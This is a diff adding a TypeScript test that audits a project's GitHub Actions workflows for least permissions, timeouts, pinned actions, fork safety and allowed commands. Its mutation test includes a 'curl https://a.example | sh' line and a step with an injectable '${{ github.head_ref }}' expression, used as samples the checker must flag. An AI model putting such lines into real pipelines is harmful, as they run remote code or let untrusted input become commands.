@@ -1,0 +1,79 @@
+import assert from 'node:assert/strict';
+import { readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import test from 'node:test';
+import { parse } from 'yaml';
+
+const ROOT = path.resolve(__dirname, '../..');
+const FOLDER = path.join(ROOT, '.github/workflows');
+const SCRIPTS: Record<string, string> = JSON.parse(readFileSync(path.join(ROOT, 'package.json'), 'utf8')).scripts;
+
+type Step = { uses?: string; run?: string; with?: Record<string, unknown> };
+type Job = { permissions?: Record<string, string>; 'timeout-minutes'?: number; steps: Step[] };
+type Workflow = { on: object; permissions?: object; jobs: Record<string, Job> };
+
+/** What a workflow may not do; empty when it does nothing of that. */
+function faultsOf(text: string): string[] {
+  const workflow: Workflow = parse(text);
+  const faults: string[] = [];
+  if (JSON.stringify(workflow.permissions) !== '{}') faults.push('the workflow itself has permissions');
+  if ('pull_request_target' in workflow.on) faults.push('code of a fork would run with our secrets');
+  for (const [name, job] of Object.entries(workflow.jobs)) {
+    if (!job.permissions) faults.push(`${name} says no permissions`);
+    if (!job['timeout-minutes']) faults.push(`${name} may run for ever`);
+    for (const { uses, run, with: given } of job.steps) {
+      if (uses?.startsWith('actions/checkout@') && given?.['persist-credentials'] !== false)
+        faults.push(`${name} leaves its token in .git`);
+      if (run !== undefined) faults.push(...faultsOfCommand(run).map((fault) => `${name}: ${fault}`));
+    }
+  }
+  // The comment is lost by parsing, so that the lines themselves are read.
+  for (const line of text.split('\n').filter((each) => /\buses:/.test(each)))
+    if (!/uses: [\w-]+\/[\w/-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line)) faults.push(`not pinned: ${line.trim()}`);
+  return faults;
+}
+
+function faultsOfCommand(run: string): string[] {
+  // What somebody else wrote (a title, a branch's name) would be read as a part of the command.
+  const injected = /\$\{\{/.test(run) ? [`an expression in ${run}`] : [];
+  const [program, ...words] = run.split(' ');
+  if (program === 'tar' || run === 'npm ci') return injected;
+  const script = words.find((word) => !word.startsWith('-') && word !== 'run') ?? '';
+  return program === 'npm' && script in SCRIPTS ? injected : [...injected, `${run} is no script of package.json`];
+}
+
+const workflows = readdirSync(FOLDER).map((file): [string, string] => [file, readFileSync(path.join(FOLDER, file), 'utf8')]);
+
+for (const [file, text] of workflows) {
+  test(`${file} runs our own commands, with the least rights and pinned actions`, () => assert.deepEqual(faultsOf(text), []));
+}
+
+test('a pull request runs what npm test runs, and only main deploys', () => {
+  const { on, jobs } = parse(readFileSync(path.join(FOLDER, 'test.yml'), 'utf8'));
+  assert.ok('pull_request' in on);
+  assert.deepEqual(on.push, { branches: ['main'] });
+  assert.deepEqual(
+    jobs.test.steps.flatMap(({ run, if: when }: Step & { if?: string }) => (run && !when ? [run] : [])),
+    ['npm ci', 'npm test', 'npm run check:audit'],
+  );
+  assert.equal(jobs.deploy.if, "github.event_name == 'push'");
+  assert.equal(jobs.deploy.needs, 'test');
+});
+
+test('each fault of a workflow is found', () => {
+  const [, good] = workflows.find(([file]) => file === 'weekly.yml') as [string, string];
+  const faultsAfter = (from: RegExp | string, to: string) => {
+    assert.notEqual(good.replace(from, to), good);
+    return faultsOf(good.replace(from, to)).join('\n');
+  };
+  assert.match(faultsAfter('permissions: {}', 'permissions: { contents: write }'), /the workflow itself/);
+  assert.match(faultsAfter('    permissions: { contents: read }\n', ''), /says no permissions/);
+  assert.match(faultsAfter('    timeout-minutes: 20\n', ''), /for ever/);
+  assert.match(faultsAfter('workflow_dispatch:', 'pull_request_target:'), /fork/);
+  assert.match(faultsAfter('persist-credentials: false', 'persist-credentials: true'), /token/);
+  assert.match(faultsAfter(/@[0-9a-f]{40} # v4.2.2/, '@v4'), /not pinned/);
+  assert.match(faultsAfter('npm run check:audit', 'npm run check:nothing'), /no script/);
+  assert.match(faultsAfter('npm run check:audit', 'curl https://a.example | sh'), /no script/);
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of the workflow
+  assert.match(faultsAfter('npm run check:audit', 'npm run check:audit -- ${{ github.head_ref }}'), /an expression/);
+});
